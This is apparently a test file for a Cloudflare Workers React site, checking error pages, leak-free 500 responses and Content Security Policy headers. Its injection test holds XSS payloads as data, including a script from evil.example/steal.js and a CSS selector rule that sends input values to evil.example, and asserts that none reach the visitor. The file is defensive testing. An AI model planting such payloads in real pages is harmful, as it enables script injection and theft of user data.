// What may run on a page, and what is sent in the place of one that breaks.
import { env } from "cloudflare:workers";
import { Version } from "csp_evaluator/dist/csp";
import { CspEvaluator } from "csp_evaluator/dist/evaluator";
import { Severity } from "csp_evaluator/dist/finding";
import { CspParser } from "csp_evaluator/dist/parser";
import { type ReactNode, createElement } from "react";
import type { ServerBuild } from "react-router";
import { expect, test } from "vitest";

import { refused } from "~/content/refused";
import { sha256, toBase64 } from "~/domain/digest";

import { createPages } from "../../workers/pages/create-pages";
import { createRender } from "../../workers/pages/create-render";
import { pageRoutes } from "../../workers/pages/page-address";
import { createServices } from "../../workers/services";
import { logLines, wholeLog } from "../support/console-guard";
import { startWorker } from "./support/airtable";
import { everyPage } from "./support/every-page";
import { fakeDesk } from "./support/fake-desk";
import { ORIGIN, useFreshDesk } from "./support/site";

useFreshDesk();

const SECRET = "no table bookings_v9 at /srv/nightshift/desk.ts:41";

function crash(): never {
  throw new RangeError(SECRET);
}

type Replaced = { readonly default?: () => ReactNode; readonly loader?: () => never };

/** The reply of the site with another home page, and with a desk that breaks down. */
async function askWith(replaced: Replaced, path = "/", init: RequestInit = {}) {
  const build = (await import("virtual:react-router/server-build")) as unknown as ServerBuild;
  const home = build.routes["pages/home/route"];
  if (!home) throw new Error("There is no home page.");
  const changed = { ...home, module: { ...home.module, ...replaced } };
  const broken = { ...build, routes: { ...build.routes, "pages/home/route": changed } };
  const router = { render: createRender(broken, "production"), routes: pageRoutes(build.routes) };
  const services = { ...createServices(env), desk: fakeDesk({ taken: async () => crash() }) };
  const reply = await createPages(services, async () => router)(new Request(`${ORIGIN}${path}`, init));
  return { status: reply.status, headers: reply.headers, html: await reply.text() };
}

/** The crashes that were logged, each without the text of its error. React and the router may both report one. */
function crashes(): Set<unknown> {
  expect(wholeLog()).not.toContain("bookings_v9");
  return new Set(logLines("page.crashed").map((line): unknown => Reflect.get(JSON.parse(line), "error")));
}

test.each(["loader", "Component"] as const)(
  "ROUTE-04 an exception in the page's %s answers 500 with a designed page, and reveals nothing to the visitor",
  async (where) => {
    const { status, headers, html } = await askWith(where === "loader" ? { loader: crash } : { default: crash });
    expect([status, headers.get("content-type")]).toEqual([500, "text/html; charset=utf-8"]);
    expect(html.match(/<h1[^>]*>[^<]*/g)).toEqual([expect.stringMatching(/>Something went wrong on our end$/)]);
    expect(html).toContain('href="/"');
    expect(html).toContain("Free Demo");
    for (const leak of ["bookings_v9", "desk.ts", "RangeError", "    at "]) expect(html).not.toContain(leak);
    expect(crashes()).toEqual(new Set(["RangeError"]));
  },
);

test.each(["GET", "POST"])(
  "ROUTE-04 BOOK-16 where the form as a page fails on a %s, it says to reload, and no button opens what is not there",
  async (method) => {
    const init = method === "POST" ? { method, body: new URLSearchParams({ name: "Ada" }) } : { method };
    const { status, html } = await askWith({}, "/book", init);
    expect(status).toBe(500);
    expect(html).toContain(refused.failed.text);
    expect(html).toContain(`href="${refused.mailTo}"`);
    expect(html).not.toContain("commandfor=");
    expect(html).not.toContain("bookings_v9");
    expect(crashes()).toContain("RangeError");
  },
);

/** A page into which somebody has injected markup. */
const withMarkup = (markup: string) => ({
  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: markup } }),
});

test.each([
  "<script>steal()</script>",
  "<SCRIPT type=module>steal()</SCRIPT>",
  '<script nonce="0">steal()</script>',
  "<script data-x=' type=\"application/ld+json\"'>steal()</script>",
  '<script src="https://evil.example/steal.js"></script>',
  "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
  "<script>never closed",
])("a page that holds %s is not sent: the visitor gets the page of an error, and the log an error", async (markup) => {
  const { status, html } = await askWith(withMarkup(markup));
  expect(status).toBe(500);
  expect(html).toContain("Something went wrong on our end");
  for (const injected of ["evil", "steal()"]) expect(html).not.toContain(injected);
  expect(crashes()).toEqual(new Set(["Error"]));
});

test("words that look like markup are words, and data is data", async () => {
  const hostile = '<style id="critical-css"></style></script><script>steal()</script>';
  const { status, headers, html } = await askWith({
    default: () => [
      createElement("h1", { key: 1 }, hostile),
      createElement("script", { key: 2, type: "application/ld+json" }, "{}"),
    ],
  });
  expect(status).toBe(200);
  expect(html).toContain("&lt;style id=&quot;critical-css&quot;&gt;");
  // The policy lists everything that runs: the head's script, the router's two, and the one that starts them.
  const policy = headers.get("content-security-policy")?.split("; ") ?? [];
  const hashesOf = (directive: string) =>
    policy.find((each) => each.startsWith(directive))?.match(/'sha256-[^']+'/g) ?? [];
  const foreign = toBase64(await sha256("steal()"));
  expect(hashesOf("script-src")).toHaveLength(4);
  expect(hashesOf("script-src")).not.toContain(`'sha256-${foreign}'`);
  expect(hashesOf("style-src")).toHaveLength(1);
});

/** Pages that are the same for everybody, the booking page, and the not-found page. */
const PAGES = [...everyPage, "/book", "/nowhere"];
/** The two lowest grades: possible issues and information. */
const LOWEST: readonly Severity[] = [Severity.MEDIUM_MAYBE, Severity.INFO];

function findings(policy: string): string[] {
  return new CspEvaluator(new CspParser(policy).csp, Version.CSP3)
    .evaluate()
    .filter(({ severity }) => !LOWEST.includes(severity))
    .map(({ directive, value = "", description }) => `${directive} ${value}: ${description}`);
}

test.each([["G-NIGHTSHIFT"], [""]])(
  "no page's policy has a weakness that Google's evaluator knows; tag: %j",
  async (tag) => {
    const visit = startWorker({ ANALYTICS_ID: tag }, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"]);
    for (const path of PAGES) {
      const policy = (await visit(path)).headers.get("content-security-policy") ?? "";
      expect([path, findings(policy)]).toEqual([path, []]);
      expect(policy).toContain("require-trusted-types-for 'script'");
    }
    expect(findings("script-src 'self' 'unsafe-inline' data:")).not.toEqual([]);
  },
);

test.each([
  ["enforced", "", true, null],
  [
    "reported alone",
    "1x00000000000000000000AA",
    false,
    "require-trusted-types-for 'script'; trusted-types analytics turnstile",
  ],
])("Trusted Types are %s with Turnstile's site key %j", async (_, key, enforced, watched) => {
  const keys = { TURNSTILE_SITE_KEY: key, TURNSTILE_SECRET_KEY: key };
  const { headers } = await startWorker(keys, ["AIRTABLE_TOKEN", "AIRTABLE_BASE_ID"])("/about");
  expect(headers.get("content-security-policy")?.includes("require-trusted-types-for")).toBe(enforced);
  expect(headers.get("content-security-policy-report-only")).toBe(watched);
});
